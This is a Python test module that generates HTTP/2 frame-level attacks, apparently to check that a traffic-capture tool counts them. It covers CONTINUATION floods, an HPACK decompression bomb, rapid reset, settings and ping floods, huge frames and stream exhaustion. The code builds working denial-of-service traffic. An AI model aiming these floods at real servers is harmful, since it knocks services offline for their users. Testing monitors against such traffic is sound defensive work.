# SPDX-License-Identifier: Apache-2.0
"""Attacks by frames of HTTP/2, on connections that the attacker begins."""

import itertools
import struct

from attacks import FLOWS, attack, new_connections
from wire import Talker

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RESET, SETTINGS, PROMISE, PING, CONTINUATION = 0, 1, 3, 4, 5, 6, 9
END_STREAM, END_HEADERS = 1, 4
# GET, http, path / and a name in :authority, none of it in the table.
REQUEST = b"\x82\x86\x84\x01\x0bbad.example"


def frame(kind, payload=b"", flags=0, stream=0):
    return struct.pack("!I", len(payload))[1:] + bytes([kind, flags]) + struct.pack("!I", stream) + payload


def connection(number):
    """A client that has sent its preface and its settings."""
    talker = Talker(number)
    return talker, talker.open() + talker.send(PREFACE + frame(SETTINGS))


def packed(frames, size=1_390):
    """Frames put together to segments' payloads."""
    buffer = b""
    for one in frames:
        if buffer and len(buffer) + len(one) > size:
            yield buffer
            buffer = b""
        buffer += one
    yield buffer


def flood(number, frames, stop=None):
    """The segments of a connection with these frames."""
    talker, opening = connection(number)
    yield from opening
    for payload in packed(itertools.islice(frames, stop)):
        yield from talker.send(payload)


@attack("HTTP/2: CONTINUATION without end", "capture.h2Resyncs", least=1_500, is_sample=True)
def continuation(_):
    for number in itertools.count():
        frames = itertools.chain([frame(HEADERS, REQUEST, 0, 1)],
                                 itertools.repeat(frame(CONTINUATION, b"\x82" * 1_000, 0, 1), 400),
                                 [frame(CONTINUATION, b"", END_HEADERS, 1)])
        yield from flood(number, frames)


@attack("HTTP/2: empty CONTINUATION frames", "capture.continuations", is_sample=True)
def empty_continuation(_):
    for number in itertools.count():
        frames = itertools.chain([frame(HEADERS, REQUEST, 0, 1)], itertools.repeat(frame(CONTINUATION, b"", 0, 1), 60_000))
        yield from flood(number, frames)


@attack("HTTP/2: blocks that expand a thousandfold", "protocols.HTTP/2", is_sample=True)
def bomb(_):
    for number in itertools.count():
        # A field of 4,000 bytes in the table, then its index again and again.
        first = frame(HEADERS, REQUEST + b"\x44\x7f\xa1\x1e" + b"/" + b"a" * 3_999, END_HEADERS | END_STREAM, 1)
        rest = (frame(HEADERS, b"\x82\x86" + b"\xbe" * 8_000 + REQUEST[3:], END_HEADERS | END_STREAM, 2 * index + 3)
                for index in range(100))
        yield from flood(number, itertools.chain([first], rest))


@attack("HTTP/2: rapid reset", "aborted", is_sample=True)
def rapid_reset(_):
    for number in itertools.count():
        frames = (one for index in range(100_000) for one in (
            frame(HEADERS, REQUEST, END_HEADERS | END_STREAM, 2 * index + 1), frame(RESET, b"\0\0\0\x08", 0, 2 * index + 1)))
        yield from flood(number, frames)


@attack("HTTP/2: settings and pings", "capture.otherSegments", is_sample=True)
def settings(_):
    setting = frame(SETTINGS, struct.pack("!HI", 1, 4_096) + struct.pack("!HI", 5, 16_384))
    frames = itertools.cycle([setting, frame(SETTINGS, b"", 1), frame(PING, b"\0" * 8), frame(0x77, b"x")])
    yield from flood(1, frames)


@attack("HTTP/2: sizes of the table", "capture.h2Resyncs")
def table_sizes(_):
    def size(value):
        value -= 31
        octets = bytearray([0x3F])
        while value >= 128:
            octets.append(value & 0x7F | 0x80)
            value >>= 7
        return bytes(octets) + bytes([value])

    for number in itertools.count():
        frames = (frame(HEADERS, b"\x20" * 30 + size(4_096 if index % 3 else 1 << 30) + REQUEST, END_HEADERS | END_STREAM,
                        2 * index + 1) for index in range(10_000))
        yield from flood(number, frames)


@attack("HTTP/2: streams that stay open", "capture.evictedRequests", least=1_000)
def open_streams(_):
    for number in itertools.count():
        yield from flood(number, (frame(HEADERS, REQUEST, END_HEADERS, 2 * index + 1) for index in range(20_000)))


@attack("HTTP/2: frames of 16 MiB", "capture.h2Resyncs")
def long_frames(_):
    talkers = []
    for number in range(8):
        talker, opening = connection(number)
        yield from opening
        talkers.append(talker)
    for index in itertools.count(0, 3):
        for number, talker in enumerate(talkers):
            # A header that announces all that its three bytes can, then a segment in which frames are found again.
            huge = b"\xff\xff\xff" + frame((HEADERS, SETTINGS, 0x77, DATA)[number % 4], b"", 0, 1)[3:] + b"x" * 1_000
            first, second, third = (frame(HEADERS, REQUEST, END_HEADERS | END_STREAM, 2 * (index + more) + 1)
                                    for more in range(3))
            yield from talker.send(first + huge)
            yield from talker.send(second + third)


@attack("HTTP/2: streams up to 2^31", "capture.evictedRequests", least=1_000)
def high_streams(_):
    step = 1 << 24
    for number in itertools.count():
        streams = [*range(1, 0x7FFF_FFFF, step), 0x7FFF_FFFF]
        # Beyond the last one nothing can be asked: what still is sent counts as no request.
        frames = (frame(HEADERS, REQUEST, END_HEADERS | END_STREAM, stream) for stream in [*streams, 1, 0x7FFF_FFFF])
        yield from flood(number, frames)


@attack("HTTP/2: connections that say little", "capture.evictedHTTP2", least=FLOWS + 25_000)
def idle_connections(_):
    # First the table of connections, so that what grows afterwards is HTTP/2's.
    yield from itertools.islice(new_connections(None), FLOWS)
    # A field for the table, and a block that does not end.
    field = b"\x40\x01x\x20" + b"a" * 32
    for number in itertools.count():
        yield from flood(number, iter([frame(HEADERS, REQUEST + field, END_HEADERS, 1), frame(HEADERS, REQUEST, 0, 3)]))
